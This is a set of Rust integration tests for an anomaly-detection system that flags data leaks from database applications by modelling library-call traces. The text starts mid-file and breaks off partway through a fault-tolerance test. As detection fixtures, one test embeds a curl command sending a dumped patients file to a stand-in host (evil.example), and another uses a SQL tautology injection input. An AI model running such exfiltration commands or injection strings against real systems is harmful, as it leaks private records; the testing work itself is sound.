            ("bank".to_string(), format!("s-{i}"), cycle)
        })
        .collect();
    let stream = interleave(&sessions, 0xBE9);

    let registry = ProfileRegistry::new();
    registry
        .register("bank", cyclic_profile("bank", -5.0))
        .unwrap();
    let obs = Registry::new();
    let sink = Arc::new(MemoryAuditSink::new());
    let mut runtime = MonitorRuntime::new(Arc::new(registry))
        .with_registry(&obs)
        .with_forensics(ForensicsConfig::default())
        .with_audit(Arc::new(AuditLog::new(sink.clone())));
    runtime.ingest_stream(&stream);
    let reports = runtime.finish();

    assert_eq!(reports.len(), sessions.len());
    assert!(
        reports.iter().all(|r| r.alarms().count() == 0),
        "the pure cycle must stay benign"
    );
    assert!(
        sink.records().is_empty(),
        "no audit record without an alarm"
    );
    assert_eq!(
        obs.snapshot()
            .counter("monitor.forensics.reports")
            .unwrap_or(0),
        0,
        "flight recorder stays un-promoted on the benign path"
    );
}
