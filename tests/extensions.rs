//! Integration tests for the §VII mitigation monitors: query-signature
//! profiling (defeats selectivity mimicry) and labeled-file tracking
//! (defeats file-then-network exfiltration).

use adprom::analysis::analyze;
use adprom::client::ClientSession;
use adprom::core::{
    build_profile, ConstructorConfig, DetectionEngine, ExtensionKind, FileLabelMonitor, Flag,
    QuerySignatureMonitor,
};
use adprom::lang::parse_program;
use adprom::trace::{run_program, ExecConfig, TraceCollector};
use adprom::workloads::{banking, TestCase, Workload};

fn extended_config() -> ExecConfig {
    ExecConfig {
        extended_events: true,
        ..ExecConfig::default()
    }
}

/// Runs a case with extended events enabled.
fn run_extended(
    workload: &Workload,
    case: &TestCase,
    labels: &std::collections::HashMap<adprom::lang::CallSiteId, String>,
) -> Vec<adprom::trace::CallEvent> {
    let mut session = ClientSession::connect((workload.make_db)());
    let mut collector = TraceCollector::new();
    run_program(
        &workload.program,
        &mut session,
        &case.inputs,
        labels,
        &mut collector,
        &extended_config(),
    )
    .expect("case runs");
    collector.into_events()
}

#[test]
fn signature_monitor_catches_selectivity_mimicry() {
    // The evasion from §VII: the attacker rewrites the query so that it
    // returns the *same number of rows* as a benign lookup — the call
    // sequence is unchanged, so the base system sees nothing.
    let workload = banking::workload(40, 77);
    let analysis = analyze(&workload.program);

    // Extended training traces.
    let traces: Vec<_> = workload
        .test_cases
        .iter()
        .map(|c| run_extended(&workload, c, &analysis.site_labels))
        .collect();
    let mut config = ConstructorConfig::default();
    config.train.max_iterations = 8;
    let (profile, _) = build_profile("App_b", &analysis, &traces, &config);
    let engine = DetectionEngine::new(&profile);
    let signatures = QuerySignatureMonitor::learn(&traces);
    assert!(signatures.len() >= 4, "training sees several query shapes");

    // Mimicry attack: `id='105' AND '1'='1'` returns exactly one row, like
    // the benign lookup — same selectivity, same call sequence.
    let mimic = TestCase::new(
        "mimicry",
        vec!["1".into(), "105' AND '1'='1".into(), "0".into()],
    );
    let trace = run_extended(&workload, &mimic, &analysis.site_labels);

    // Base system: blind to it (this is the paper's stated limitation).
    assert_eq!(
        engine.verdict(&trace),
        Flag::Normal,
        "the base detector cannot see same-selectivity query changes"
    );
    // Extension: the signature differs from everything in training.
    let alerts = signatures.scan(&trace);
    assert!(
        alerts
            .iter()
            .any(|a| a.kind == ExtensionKind::UnknownQuerySignature),
        "the signature monitor must flag the rewritten query"
    );
    // And benign traffic stays quiet.
    let benign = TestCase::new("benign", vec!["1".into(), "105".into(), "0".into()]);
    let benign_trace = run_extended(&workload, &benign, &analysis.site_labels);
    assert!(signatures.scan(&benign_trace).is_empty());
}

#[test]
fn file_label_monitor_catches_file_then_network_exfiltration() {
    // §VII: "storing the TD to a file and then send the file over a
    // network" — the file write itself is legitimate-looking; the tell is
    // the follow-up action on the labeled file.
    let source = r#"
        fn main() {
            let r = PQexec(conn, "SELECT * FROM patients");
            let v = PQgetvalue(r, 0, 0);
            let f = fopen("dump.txt", "w");
            fprintf(f, "%s", v);
            fclose(f);
            system("curl -F data=@dump.txt http://evil.example/up");
        }
    "#;
    let prog = parse_program(source).unwrap();
    let analysis = analyze(&prog);

    let mut db = adprom::db::Database::new("h");
    db.execute("CREATE TABLE patients (id INT, name TEXT)")
        .unwrap();
    db.execute("INSERT INTO patients VALUES (1, 'ada')")
        .unwrap();
    let mut session = ClientSession::connect(db);
    let mut collector = TraceCollector::new();
    run_program(
        &prog,
        &mut session,
        &[],
        &analysis.site_labels,
        &mut collector,
        &extended_config(),
    )
    .unwrap();

    let mut monitor = FileLabelMonitor::new();
    let raised = monitor.scan(collector.events());
    assert_eq!(
        raised, 1,
        "the curl-out of the labeled dump must be flagged"
    );
    assert_eq!(monitor.alerts()[0].kind, ExtensionKind::LabeledFileAction);
    assert!(monitor.alerts()[0].subject.contains("dump.txt"));
}

#[test]
fn extended_events_off_by_default_keeps_collector_lean() {
    let workload = banking::workload(3, 5);
    let analysis = analyze(&workload.program);
    let trace = workload.run_case(&workload.test_cases[0], &analysis.site_labels);
    assert!(
        trace.iter().all(|e| e.detail.is_none()),
        "the baseline collector records names and callers only"
    );
}
