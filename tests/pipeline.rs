//! End-to-end integration: training on each CA-dataset application, then
//! verifying normal runs pass and each §V-C attack is flagged.

use adprom::analysis::{analyze, Analysis};
use adprom::attacks::{
    attack1_insert_similar_print, attack2_new_call_in_function, attack3_reuse_print,
    attack4_binary_patch,
};
use adprom::core::{build_profile, ConstructorConfig, DetectionEngine, Flag, Profile};
use adprom::trace::CallEvent;
use adprom::workloads::{banking, hospital, supermarket, Workload};

/// Light training config keeping test runtime reasonable.
fn test_config() -> ConstructorConfig {
    let mut config = ConstructorConfig::default();
    config.train.max_iterations = 12;
    config
}

fn train(workload: &Workload, name: &str) -> (Analysis, Profile) {
    let analysis = analyze(&workload.program);
    let traces = workload.collect_traces(&analysis.site_labels);
    let (profile, _) = build_profile(name, &analysis, &traces, &test_config());
    (analysis, profile)
}

/// Runs the attacked program over the workload's cases, returning the
/// worst verdict. Mirrors deployment: the detection-phase instrumenter
/// re-analyzes the *modified* binary for labels, while the profile was
/// built from the original.
fn attacked_verdict(
    original: &Workload,
    attacked_program: adprom::lang::Program,
    profile: &Profile,
) -> Flag {
    let attacked = Workload {
        name: original.name.clone(),
        dbms: original.dbms,
        program: attacked_program,
        make_db: original.make_db,
        test_cases: original.test_cases.clone(),
    };
    let attacked_analysis = analyze(&attacked.program);
    let engine = DetectionEngine::new(profile);
    let mut worst = Flag::Normal;
    for case in attacked.test_cases.iter().take(20) {
        let trace = attacked.run_case(case, &attacked_analysis.site_labels);
        worst = worst.max(engine.verdict(&trace));
        if worst == Flag::OutOfContext {
            break;
        }
    }
    worst
}

fn normal_alarm_rate(workload: &Workload, analysis: &Analysis, profile: &Profile) -> f64 {
    let engine = DetectionEngine::new(profile);
    let mut windows = 0usize;
    let mut alarms = 0usize;
    for case in workload.test_cases.iter().take(15) {
        let trace = workload.run_case(case, &analysis.site_labels);
        for alert in engine.scan(&trace) {
            windows += 1;
            if alert.is_alarm() {
                alarms += 1;
            }
        }
    }
    alarms as f64 / windows.max(1) as f64
}

#[test]
fn hospital_profile_accepts_normal_and_flags_attacks() {
    let workload = hospital::workload(25, 1);
    let (analysis, profile) = train(&workload, "App_h");

    let fp = normal_alarm_rate(&workload, &analysis, &profile);
    assert!(fp < 0.05, "false-positive window rate too high: {fp}");

    let a1 = attack1_insert_similar_print(&workload.program).expect("attack 1 applies");
    assert_ne!(
        attacked_verdict(&workload, a1.program, &profile),
        Flag::Normal,
        "attack 1 must be detected"
    );

    let a2 = attack2_new_call_in_function(&workload.program, "SELECT * FROM patients")
        .expect("attack 2 applies");
    let verdict = attacked_verdict(&workload, a2.program, &profile);
    assert_eq!(
        verdict,
        Flag::OutOfContext,
        "attack 2 inserts a call in a function that never issued it"
    );
}

#[test]
fn banking_attacks_detected_including_injection() {
    let workload = banking::workload(30, 2);
    let (analysis, profile) = train(&workload, "App_b");
    let engine = DetectionEngine::new(&profile);

    // Attack 5: the Fig. 2 tautology injection — pure input, same binary.
    let attack_trace = workload.run_case(&banking::injection_case(), &analysis.site_labels);
    let verdict = engine.verdict(&attack_trace);
    assert_ne!(verdict, Flag::Normal, "injection must be flagged");

    // A benign lookup through the same vulnerable path stays normal.
    let benign = adprom::workloads::TestCase::new(
        "benign-lookup",
        vec!["1".into(), "105".into(), "0".into()],
    );
    let benign_trace = workload.run_case(&benign, &analysis.site_labels);
    assert_eq!(engine.verdict(&benign_trace), Flag::Normal);

    // Attack 3: reuse of an existing print.
    let a3 = attack3_reuse_print(&workload.program).expect("attack 3 applies");
    assert_ne!(
        attacked_verdict(&workload, a3.program, &profile),
        Flag::Normal,
        "attack 3 must be detected"
    );
}

#[test]
fn supermarket_binary_patch_detected() {
    let workload = supermarket::workload(25, 3);
    let (_, profile) = train(&workload, "App_s");

    let a4 =
        attack4_binary_patch(&workload.program, "SELECT * FROM items").expect("attack 4 applies");
    assert_ne!(
        attacked_verdict(&workload, a4.program, &profile),
        Flag::Normal,
        "attack 4 (binary patch) must be detected"
    );
}

#[test]
fn profiles_round_trip_through_disk() {
    let workload = banking::workload(10, 4);
    let (analysis, profile) = train(&workload, "App_b");

    let dir = std::env::temp_dir().join("adprom-pipeline-test");
    std::fs::create_dir_all(&dir).unwrap();
    let path = dir.join("app_b.profile.json");
    profile.save(&path).unwrap();
    let reloaded = Profile::load(&path).unwrap();
    std::fs::remove_file(&path).ok();

    // A reloaded profile classifies identically.
    let engine_a = DetectionEngine::new(&profile);
    let engine_b = DetectionEngine::new(&reloaded);
    let trace: Vec<CallEvent> = workload.run_case(&workload.test_cases[0], &analysis.site_labels);
    assert_eq!(engine_a.verdict(&trace), engine_b.verdict(&trace));
}

#[test]
fn alert_connects_leak_to_source_block() {
    // The DataLeak alert must carry the `_Q<bid>` label (the "connected to
    // source" property of Table V).
    let workload = banking::workload(30, 5);
    let (analysis, profile) = train(&workload, "App_b");
    let engine = DetectionEngine::new(&profile);
    let attack_trace = workload.run_case(&banking::injection_case(), &analysis.site_labels);
    let leak_alerts: Vec<_> = engine
        .scan(&attack_trace)
        .into_iter()
        .filter(|a| a.flag == Flag::DataLeak)
        .collect();
    assert!(
        !leak_alerts.is_empty(),
        "injection produces DataLeak alerts"
    );
    assert!(leak_alerts[0].detail.contains("_Q"));
}
