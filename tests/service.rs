//! The sharded service's equivalence contract: the wire format
//! round-trips bit-identically and survives any single-byte corruption
//! with the damage quarantined to one frame; and a [`ShardedMonitor`] at
//! any shard count {1, 2, 4, 8} and any per-shard thread count produces
//! exactly the per-session verdicts of one unsharded [`MonitorRuntime`],
//! merged in deterministic `(shard, arrival)` order — including across a
//! mid-stream cross-shard profile hot-swap.

use adprom::core::{
    decode_frames, encode_stream, shard_for, MonitorRuntime, Profile, ProfileRegistry,
    RuntimeConfig, ShardedMonitor,
};
use adprom::core::{Alphabet, ScoringMode};
use adprom::hmm::Hmm;
use adprom::lang::{CallSiteId, LibCall};
use adprom::trace::{interleave, CallEvent, TaggedCall};
use proptest::prelude::*;
use std::collections::{BTreeMap, BTreeSet};
use std::sync::Arc;

fn event(name: &str, caller: &str) -> CallEvent {
    CallEvent {
        name: name.into(),
        call: LibCall::Printf,
        caller: caller.into(),
        site: CallSiteId(0),
        detail: None,
    }
}

/// The cyclic a→b→c toy profile from the runtime equivalence suite.
fn cyclic_profile(app: &str, threshold: f64) -> Profile {
    let alphabet = Alphabet::new(vec!["a".to_string(), "b".to_string(), "c_Q7".to_string()]);
    let m = alphabet.len();
    let mut a = vec![vec![0.001; m]; m];
    a[0][1] = 1.0;
    a[1][2] = 1.0;
    a[2][0] = 1.0;
    a[3][3] = 1.0;
    let mut b = vec![vec![0.001; m]; m];
    for (i, row) in b.iter_mut().enumerate() {
        row[i] = 1.0;
    }
    let pi = vec![1.0; m];
    let mut hmm = Hmm::from_rows(a, b, pi);
    hmm.smooth(1e-4);
    let mut call_callers: BTreeMap<String, BTreeSet<String>> = BTreeMap::new();
    for name in ["a", "b", "c_Q7"] {
        call_callers
            .entry(name.to_string())
            .or_default()
            .insert("main".to_string());
    }
    Profile {
        app_name: app.into(),
        alphabet,
        hmm,
        window: 3,
        threshold,
        call_callers,
        labeled_outputs: vec!["c_Q7".to_string()],
    }
}

fn registry() -> Arc<ProfileRegistry> {
    let profiles = ProfileRegistry::new();
    profiles
        .register("bank", cyclic_profile("bank", -5.0))
        .unwrap();
    profiles
        .register("shop", cyclic_profile("shop", -5.0))
        .unwrap();
    Arc::new(profiles)
}

/// One random session trace: 1–11 calls drawn from the alphabet plus an
/// out-of-vocabulary name, some issued by an untrained caller.
fn arb_trace() -> impl Strategy<Value = Vec<CallEvent>> {
    const NAMES: [&str; 4] = ["a", "b", "c_Q7", "evil_exfil"];
    prop::collection::vec((0usize..NAMES.len(), any::<bool>()), 1..12).prop_map(|calls| {
        calls
            .into_iter()
            .map(|(pick, attacker)| {
                event(
                    NAMES[pick],
                    if attacker {
                        "attacker_function"
                    } else {
                        "main"
                    },
                )
            })
            .collect()
    })
}

/// Random multi-app session sets: 1–4 sessions each for two apps, enough
/// ids that every shard count in {1, 2, 4, 8} gets populated sometimes.
fn arb_sessions() -> impl Strategy<Value = Vec<(String, String, Vec<CallEvent>)>> {
    (
        prop::collection::vec(arb_trace(), 1..5),
        prop::collection::vec(arb_trace(), 1..5),
    )
        .prop_map(|(bank, shop)| {
            let mut sessions = Vec::new();
            for (i, trace) in bank.into_iter().enumerate() {
                sessions.push(("bank".to_string(), format!("b-{i}"), trace));
            }
            for (i, trace) in shop.into_iter().enumerate() {
                sessions.push(("shop".to_string(), format!("s-{i}"), trace));
            }
            sessions
        })
}

/// `(app, session) → (epoch, alerts)` from a finished monitor, plus the
/// report order as a session-id sequence.
type VerdictMap = BTreeMap<(String, String), (u64, String)>;

fn verdicts(reports: Vec<adprom::core::SessionReport>) -> (VerdictMap, Vec<(String, String)>) {
    let order: Vec<(String, String)> = reports
        .iter()
        .map(|r| (r.app.clone(), r.session.clone()))
        .collect();
    let map = reports
        .into_iter()
        .map(|r| ((r.app, r.session), (r.epoch, format!("{:?}", r.alerts))))
        .collect();
    (map, order)
}

/// The deterministic merge order the service promises: shard-major, and
/// within a shard, session first-arrival order on that shard's substream.
fn expected_order(stream: &[TaggedCall], shards: usize) -> Vec<(String, String)> {
    let mut order = Vec::new();
    for shard in 0..shards {
        let mut seen = BTreeSet::new();
        for tagged in stream {
            if shard_for(&tagged.app, &tagged.session, shards) == shard
                && seen.insert((tagged.app.clone(), tagged.session.clone()))
            {
                order.push((tagged.app.clone(), tagged.session.clone()));
            }
        }
    }
    order
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(
        std::env::var("PROPTEST_CASES").ok().and_then(|v| v.parse().ok()).unwrap_or(32)
    ))]

    /// Satellite: shard-count invariance. At shards {1, 2, 4, 8} and
    /// per-shard scoring threads {1, 4}, serial and partition-parallel
    /// drives, the sharded service reports exactly the single-runtime
    /// verdict per session — across a mid-stream hot-swap — and merges in
    /// the promised deterministic order.
    #[test]
    fn sharded_service_matches_single_runtime(
        sessions in arb_sessions(),
        seed in any::<u64>(),
        swap_pct in 0usize..=100,
    ) {
        let stream = interleave(&sessions, seed | 1);
        let cut = stream.len() * swap_pct / 100;
        let swap = swap_pct < 60; // sometimes no swap at all

        // Unsharded baseline. Epoch pinning happens at ingest, so the
        // bare register here is equivalent to the service's
        // flush-then-publish barrier.
        let config = RuntimeConfig {
            mode: ScoringMode::Incremental,
            ..RuntimeConfig::default()
        };
        let profiles = registry();
        let mut single = MonitorRuntime::new(Arc::clone(&profiles)).with_config(config.clone());
        single.ingest_stream(&stream[..cut]);
        if swap {
            profiles.register("bank", cyclic_profile("bank", 0.0)).unwrap();
        }
        single.ingest_stream(&stream[cut..]);
        let (expected, _) = verdicts(single.finish());

        for shards in [1usize, 2, 4, 8] {
            for threads in [1usize, 4] {
                for parallel in [false, true] {
                    let mut service = ShardedMonitor::new(registry(), shards)
                        .with_config(config.clone())
                        .with_threads(threads);
                    if parallel {
                        service.ingest_stream_parallel(&stream[..cut]);
                    } else {
                        service.ingest_stream(&stream[..cut]);
                    }
                    if swap {
                        service.swap_profile("bank", cyclic_profile("bank", 0.0)).unwrap();
                    }
                    if parallel {
                        service.ingest_stream_parallel(&stream[cut..]);
                    } else {
                        service.ingest_stream(&stream[cut..]);
                    }
                    let (got, order) = verdicts(service.finish());
                    prop_assert_eq!(
                        &got, &expected,
                        "verdict drift at shards={} threads={} parallel={}",
                        shards, threads, parallel
                    );
                    prop_assert_eq!(
                        &order, &expected_order(&stream, shards),
                        "merge order drift at shards={} threads={} parallel={}",
                        shards, threads, parallel
                    );
                }
            }
        }
    }

    /// Satellite: the wire format round-trips bit-identically — decoding
    /// recovers every record exactly, and re-encoding the decoded records
    /// reproduces the original buffer byte for byte.
    #[test]
    fn wire_roundtrip_is_bit_identical(
        sessions in arb_sessions(),
        seed in any::<u64>(),
        batch in 1usize..9,
    ) {
        let stream = interleave(&sessions, seed | 1);
        let bytes = encode_stream(&stream, batch);
        let (batches, defects) = decode_frames(&bytes);
        prop_assert!(defects.is_empty(), "{defects:?}");
        let decoded: Vec<TaggedCall> = batches
            .iter()
            .flatten()
            .map(|r| r.to_tagged())
            .collect();
        prop_assert_eq!(&decoded, &stream);
        prop_assert_eq!(encode_stream(&decoded, batch), bytes);
    }

    /// Satellite: any single-byte corruption is detected and quarantined
    /// to the frame containing it — every other frame's records decode
    /// intact, so one bad frame never poisons the frames behind it.
    #[test]
    fn wire_single_byte_corruption_is_detected_and_contained(
        sessions in arb_sessions(),
        seed in any::<u64>(),
        pos in any::<u64>(),
        flip in 1u8..=255,
    ) {
        let stream = interleave(&sessions, seed | 1);
        let batch = 4;
        // Frame start offsets, to identify which frame absorbed the hit.
        let mut frame_spans = Vec::new();
        let mut offset = 0usize;
        for chunk in stream.chunks(batch) {
            let len = encode_stream(chunk, 0).len();
            frame_spans.push((offset, offset + len, chunk.to_vec()));
            offset += len;
        }
        let mut bytes = encode_stream(&stream, batch);
        prop_assert_eq!(bytes.len(), offset);
        let pos = (pos % bytes.len() as u64) as usize;
        bytes[pos] ^= flip;

        let (batches, defects) = decode_frames(&bytes);
        prop_assert!(!defects.is_empty(), "byte {pos} ^ {flip:#x} went undetected");
        let decoded: Vec<Vec<TaggedCall>> = batches
            .iter()
            .map(|b| b.iter().map(|r| r.to_tagged()).collect())
            .collect();
        for (start, end, records) in &frame_spans {
            if pos < *start || pos >= *end {
                prop_assert!(
                    decoded.iter().any(|b| b == records),
                    "undamaged frame [{start}, {end}) lost after byte {pos} ^ {flip:#x}"
                );
            }
        }
    }
}
