//! The MonitorRuntime equivalence contract, end to end: an interleaved
//! multi-app, multi-session stream — including a mid-stream profile
//! hot-swap — must produce, at any thread count, exactly the per-session
//! verdicts of scoring each de-interleaved trace in isolation against the
//! profile epoch the session was pinned to. Plus regression pins for audit
//! sequence determinism under injected faults and for eviction determinism
//! across thread counts.

use adprom::core::resilience::sites;
use adprom::core::{
    Alphabet, FaultKind, FaultPlan, MonitorRuntime, Profile, ProfileRegistry, RuntimeConfig,
    ScoringMode, SessionEnd, Trigger, WindowScorer,
};
use adprom::hmm::Hmm;
use adprom::lang::{CallSiteId, LibCall};
use adprom::obs::{AuditLog, MemoryAuditSink};
use adprom::trace::{interleave, CallEvent, TaggedCall};
use proptest::prelude::*;
use std::collections::BTreeMap;
use std::collections::BTreeSet;
use std::sync::Arc;

/// Injected panics are expected; keep their backtraces out of the output.
fn quiet_injected_panics() {
    static ONCE: std::sync::Once = std::sync::Once::new();
    ONCE.call_once(|| {
        let default = std::panic::take_hook();
        std::panic::set_hook(Box::new(move |info| {
            let injected = info
                .payload()
                .downcast_ref::<String>()
                .is_some_and(|s| s.contains("fault-injected"));
            if !injected {
                default(info);
            }
        }));
    });
}

fn event(name: &str, caller: &str) -> CallEvent {
    CallEvent {
        name: name.into(),
        call: LibCall::Printf,
        caller: caller.into(),
        site: CallSiteId(0),
        detail: None,
    }
}

/// The cyclic a→b→c toy profile, parameterized by app name and threshold
/// so each "application" (and each hot-swap epoch) is distinguishable.
fn cyclic_profile(app: &str, threshold: f64) -> Profile {
    let alphabet = Alphabet::new(vec!["a".to_string(), "b".to_string(), "c_Q7".to_string()]);
    let m = alphabet.len();
    let mut a = vec![vec![0.001; m]; m];
    a[0][1] = 1.0;
    a[1][2] = 1.0;
    a[2][0] = 1.0;
    a[3][3] = 1.0;
    let mut b = vec![vec![0.001; m]; m];
    for (i, row) in b.iter_mut().enumerate() {
        row[i] = 1.0;
    }
    let pi = vec![1.0; m];
    let mut hmm = Hmm::from_rows(a, b, pi);
    hmm.smooth(1e-4);
    let mut call_callers: BTreeMap<String, BTreeSet<String>> = BTreeMap::new();
    for name in ["a", "b", "c_Q7"] {
        call_callers
            .entry(name.to_string())
            .or_default()
            .insert("main".to_string());
    }
    Profile {
        app_name: app.into(),
        alphabet,
        hmm,
        window: 3,
        threshold,
        call_callers,
        labeled_outputs: vec!["c_Q7".to_string()],
    }
}

/// One random session trace: 1–11 calls drawn from the alphabet plus an
/// out-of-vocabulary name, some issued by an untrained caller.
fn arb_trace() -> impl Strategy<Value = Vec<CallEvent>> {
    const NAMES: [&str; 4] = ["a", "b", "c_Q7", "evil_exfil"];
    prop::collection::vec((0usize..NAMES.len(), any::<bool>()), 1..12).prop_map(|calls| {
        calls
            .into_iter()
            .map(|(pick, attacker)| {
                event(
                    NAMES[pick],
                    if attacker {
                        "attacker_function"
                    } else {
                        "main"
                    },
                )
            })
            .collect()
    })
}

/// Random multi-app session sets: 1–3 sessions each for two apps.
fn arb_sessions() -> impl Strategy<Value = Vec<(String, String, Vec<CallEvent>)>> {
    (
        prop::collection::vec(arb_trace(), 1..4),
        prop::collection::vec(arb_trace(), 1..4),
    )
        .prop_map(|(bank, shop)| {
            let mut sessions = Vec::new();
            for (i, trace) in bank.into_iter().enumerate() {
                sessions.push(("bank".to_string(), format!("b-{i}"), trace));
            }
            for (i, trace) in shop.into_iter().enumerate() {
                sessions.push(("shop".to_string(), format!("s-{i}"), trace));
            }
            sessions
        })
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(24))]

    /// The tentpole contract. For every random interleaving, swap point,
    /// scoring mode, and thread count ∈ {1, 4, 8}: each session's alerts
    /// are bit-identical (Debug-formatted) to scanning its de-interleaved
    /// trace with a standalone scorer over the profile epoch pinned at the
    /// session's first event — epoch 1 for sessions opened before the
    /// mid-stream hot-swap, epoch 2 after.
    #[test]
    fn interleaved_runtime_matches_isolated_scans_across_threads_and_swap(
        sessions in arb_sessions(),
        seed in any::<u64>(),
        swap_pct in 0usize..=100,
        incremental in any::<bool>(),
    ) {
        let stream = interleave(&sessions, seed);
        let swap_at = stream.len() * swap_pct / 100;
        let mode = if incremental { ScoringMode::Incremental } else { ScoringMode::ExactWindows };

        let bank_v1 = cyclic_profile("bank", -5.0);
        let bank_v2 = cyclic_profile("bank", 0.0); // flags everything
        let shop_v1 = cyclic_profile("shop", -1.0);

        // Serial reference: each session scored in isolation against its
        // pinned epoch's profile.
        let expected: BTreeMap<(String, String), (u64, String)> = sessions
            .iter()
            .map(|(app, session, trace)| {
                let first = stream
                    .iter()
                    .position(|t| t.app == *app && t.session == *session)
                    .expect("session appears");
                let (epoch, profile) = if app == "bank" && first >= swap_at {
                    (2, &bank_v2)
                } else if app == "bank" {
                    (1, &bank_v1)
                } else {
                    (1, &shop_v1)
                };
                let scorer = WindowScorer::new(Arc::new(profile.clone()));
                let alerts = match mode {
                    ScoringMode::ExactWindows => scorer.scan(trace, session),
                    ScoringMode::Incremental => scorer.scan_incremental(trace, session).0,
                };
                ((app.clone(), session.clone()), (epoch, format!("{alerts:?}")))
            })
            .collect();

        for threads in [1usize, 4, 8] {
            let registry = ProfileRegistry::new();
            registry.register("bank", bank_v1.clone()).unwrap();
            registry.register("shop", shop_v1.clone()).unwrap();
            let profiles = Arc::new(registry);
            let mut runtime = MonitorRuntime::new(Arc::clone(&profiles))
                .with_threads(threads)
                .with_config(RuntimeConfig {
                    mode,
                    queue_capacity: 3, // force many mid-stream flushes
                    ..RuntimeConfig::default()
                });
            runtime.ingest_stream(&stream[..swap_at]);
            profiles.register("bank", bank_v2.clone()).unwrap();
            runtime.ingest_stream(&stream[swap_at..]);
            let reports = runtime.finish();

            prop_assert_eq!(reports.len(), sessions.len(), "threads {}", threads);
            for report in &reports {
                let (epoch, alerts) = &expected[&(report.app.clone(), report.session.clone())];
                prop_assert_eq!(
                    report.epoch, *epoch,
                    "{}/{} pinned epoch (threads {})", report.app, report.session, threads
                );
                prop_assert_eq!(
                    &format!("{:?}", report.alerts), alerts,
                    "{}/{} alerts (threads {}, {:?})", report.app, report.session, threads, mode
                );
                prop_assert_eq!(&report.end, &SessionEnd::Finished);
            }
        }
    }
}

/// Audit sequence numbers (and the app/session/epoch stamps) must be
/// identical at any thread count, even with an injected worker panic that
/// forces a retried flush — the regression pin for the runtime half of
/// the deterministic-audit guarantee.
#[test]
fn runtime_audit_sequence_is_deterministic_under_faults_and_threads() {
    /// (seq, app, session, epoch, flag) — the audit-visible identity of
    /// one record.
    type AuditRow = (u64, String, String, u64, String);
    quiet_injected_panics();
    let make_stream = || -> Vec<TaggedCall> {
        // Three sessions; threshold 0.0 flags every window, so every
        // window lands in the audit log.
        let sessions = vec![
            (
                "bank".to_string(),
                "s-0".to_string(),
                vec![
                    event("a", "main"),
                    event("b", "main"),
                    event("c_Q7", "main"),
                ],
            ),
            (
                "bank".to_string(),
                "s-1".to_string(),
                vec![event("b", "main"), event("a", "main"), event("a", "main")],
            ),
            (
                "bank".to_string(),
                "s-2".to_string(),
                vec![event("a", "main"), event("evil_exfil", "main")],
            ),
        ];
        interleave(&sessions, 0xA11D)
    };

    let mut baseline: Option<Vec<AuditRow>> = None;
    for threads in [1usize, 4, 8] {
        let registry = ProfileRegistry::new();
        registry
            .register("bank", cyclic_profile("bank", 0.0))
            .unwrap();
        let sink = Arc::new(MemoryAuditSink::new());
        let audit = Arc::new(AuditLog::new(sink.clone()));
        let injector = FaultPlan::new(21)
            .inject(
                sites::MONITOR_SWAP,
                FaultKind::Panic,
                Trigger::OnceForKeys([1u64].into()),
            )
            .arm();
        let mut runtime = MonitorRuntime::new(Arc::new(registry))
            .with_threads(threads)
            .with_audit(audit)
            .with_faults(&injector);
        runtime.ingest_stream(&make_stream());
        let reports = runtime.finish();
        assert_eq!(
            injector.injected(sites::MONITOR_SWAP),
            1,
            "threads {threads}"
        );

        let got: Vec<AuditRow> = sink
            .records()
            .iter()
            .map(|r| {
                (
                    r.seq,
                    r.app.clone(),
                    r.session.clone(),
                    r.epoch,
                    r.flag.clone(),
                )
            })
            .collect();
        // Sequence numbers are gapless from 0, and every record carries
        // the app + pinned epoch.
        for (i, record) in got.iter().enumerate() {
            assert_eq!(record.0, i as u64, "threads {threads}");
            assert_eq!(record.1, "bank");
            assert_eq!(record.3, 1);
        }
        let alarm_total: usize = reports.iter().map(|r| r.alarms().count()).sum();
        assert_eq!(got.len(), alarm_total, "threads {threads}");
        assert!(alarm_total > 0, "flag-everything threshold must alarm");
        match &baseline {
            None => baseline = Some(got),
            Some(expected) => assert_eq!(&got, expected, "threads {threads}"),
        }
    }
}

/// Eviction decisions ride the serial ingest clock, so a capacity-bound
/// runtime must produce identical reports (ends, event counts, alerts) at
/// any thread count.
#[test]
fn eviction_under_pressure_is_thread_count_independent() {
    let sessions: Vec<(String, String, Vec<CallEvent>)> = (0..6)
        .map(|i| {
            (
                "bank".to_string(),
                format!("s-{i}"),
                vec![
                    event("a", "main"),
                    event("b", "main"),
                    event("c_Q7", "main"),
                    event("a", "main"),
                ],
            )
        })
        .collect();
    let stream = interleave(&sessions, 0xE71C);

    let mut baseline: Option<String> = None;
    for threads in [1usize, 4, 8] {
        let registry = ProfileRegistry::new();
        registry
            .register("bank", cyclic_profile("bank", -5.0))
            .unwrap();
        let mut runtime = MonitorRuntime::new(Arc::new(registry))
            .with_threads(threads)
            .with_config(RuntimeConfig {
                max_sessions: 2,
                queue_capacity: 4,
                ..RuntimeConfig::default()
            });
        runtime.ingest_stream(&stream);
        let reports = runtime.finish();
        assert!(
            reports.iter().any(|r| r.end == SessionEnd::PressureEvicted),
            "six sessions through a two-slot table must evict"
        );
        let rendered = format!("{reports:?}");
        match &baseline {
            None => baseline = Some(rendered),
            Some(expected) => assert_eq!(&rendered, expected, "threads {threads}"),
        }
    }
}
