//! Fault-tolerance end-to-end: the banking workload monitored under a
//! deterministic [`FaultPlan`] (a corrupt ingested trace, injected worker
//! panics, a torn audit tail) must quarantine exactly the corrupt trace and
//! produce verdicts identical to a fault-free run for everything else, and
//! audit recovery must preserve every record written before the tear.

use adprom::analysis::analyze;
use adprom::core::resilience::sites;
use adprom::core::{
    build_profile, BatchDetector, ConstructorConfig, FaultKind, FaultPlan, Health, HealthMonitor,
    KernelConfig, Profile, TraceStatus, Trigger,
};
use adprom::hmm::{Hmm, SparseConfig};
use adprom::obs::{AuditLog, AuditRecord, AuditSink, DurableAuditSink, Registry};
use adprom::trace::TraceValidator;
use adprom::workloads::banking;
use proptest::prelude::*;
use std::collections::{BTreeMap, BTreeSet};
use std::path::PathBuf;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::Arc;

/// Injected panics are expected; keep their backtraces out of the output.
fn quiet_injected_panics() {
    static ONCE: std::sync::Once = std::sync::Once::new();
    ONCE.call_once(|| {
        let default = std::panic::take_hook();
        std::panic::set_hook(Box::new(move |info| {
            let injected = info
                .payload()
                .downcast_ref::<String>()
                .is_some_and(|s| s.contains("fault-injected"));
            if !injected {
                default(info);
            }
        }));
    });
}

fn temp_path(tag: &str) -> PathBuf {
    static NEXT: AtomicUsize = AtomicUsize::new(0);
    let dir = std::env::temp_dir().join("adprom-resilience-test");
